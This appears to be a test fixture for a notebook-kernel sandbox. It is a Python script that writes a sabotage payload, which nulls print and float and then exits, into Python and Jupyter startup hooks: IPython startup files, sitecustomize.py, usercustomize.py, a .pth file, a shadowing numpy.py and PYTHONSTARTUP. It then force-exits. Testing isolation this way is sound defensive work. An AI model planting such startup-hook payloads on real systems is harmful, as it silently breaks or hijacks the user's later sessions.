"""Writes to all places from which a later kernel of this user would run code when it starts."""
# ruff: noqa: F821

# %%
import os
import site
from pathlib import Path

POISON = "import builtins\nbuiltins.float = builtins.print = None\nraise SystemExit('poisoned')\n"
NAMES = [
    ".ipython/profile_default/startup/00-poison.py",
    ".ipython/profile_default/ipython_config.py",
    ".ipython/profile_default/ipython_kernel_config.py",
    ".jupyter/jupyter_config.py",
    ".config/matplotlib/matplotlibrc",
    ".keras/keras.json",
    ".pythonrc",
    "numpy.py",
    "sitecustomize.py",
    "usercustomize.py",
]
places = [Path(home) / name for home in (Path.home(), PLACES["home"]) for name in NAMES]
places += [Path(site.getusersitepackages()) / name for name in ("poison.pth", "usercustomize.py")]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(POISON)
    except OSError:
        pass
os.environ["PYTHONSTARTUP"] = str(Path.home() / ".pythonrc")
os._exit(0)


# %% double
def double(x):
    os._exit(0)
